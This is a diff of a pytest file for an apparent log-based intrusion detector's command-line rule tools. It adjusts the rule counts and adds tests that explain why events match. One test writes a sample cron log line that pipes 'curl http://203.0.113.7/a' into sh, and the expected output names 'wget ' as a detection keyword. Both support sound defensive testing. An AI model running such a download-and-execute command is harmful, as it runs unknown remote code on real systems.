@@ -26,7 +26,8 @@ def test_list_gives_one_line_per_rule(capsys: pytest.CaptureFixture[str]) -> Non
     assert main(["rule", "list", "--json"]) == 0
 
     rules = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
-    assert len(rules) == 42
+    assert sum("level" in rule and rule["detector"] != "event_rules" for rule in rules) >= 41
+    assert sum(rule["detector"] == "event_rules" for rule in rules) >= 140
     assert {"port_scan", "syn_flood"} <= {rule["detector"] for rule in rules}
 
 
@@ -85,3 +86,40 @@ def test_the_shipped_rules_pass_their_own_tests(capsys: pytest.CaptureFixture[st
     results = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
     assert len(results) >= 15
     assert all(result["ok"] for result in results)
+
+
+def test_show_finds_an_event_rule_by_its_file(capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["rule", "show", "log_removed"]) == 0
+
+    assert json.loads(capsys.readouterr().out)["title"] == "System log removed"
+
+
+def test_explain_says_condition_by_condition_why_an_event_matches(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    line = "Feb  3 10:00:01 web01 CRON[9]: (root) CMD ({})\n"
+    commands = ("curl http://203.0.113.7/a | sh", "date")
+    (tmp_path / "e.log").write_text("".join(map(line.format, commands)), encoding="utf-8")
+
+    assert main(["rule", "explain", "cron_runs_download", "--event", f"{tmp_path}/e.log"]) == 0
+
+    said = capsys.readouterr().out
+    assert "event 1 matches" in said
+    assert "event 2 does not match" in said
+    assert "+ log source: product linux" in said
+    assert "contains 'wget '   <- 'date'" in said
+
+
+def test_explain_puts_a_correlation_in_words(capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["rule", "explain", "account_made_and_deleted"]) == 0
+
+    assert "at least 2 of the rules in their order of one" in capsys.readouterr().out
+
+
+def test_explain_refuses_a_file_without_an_event(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    (tmp_path / "e.log").write_text("\n", encoding="utf-8")
+
+    assert main(["rule", "explain", "log_removed", "--event", f"{tmp_path}/e.log"]) == 2
+    assert "holds no event" in capsys.readouterr().err
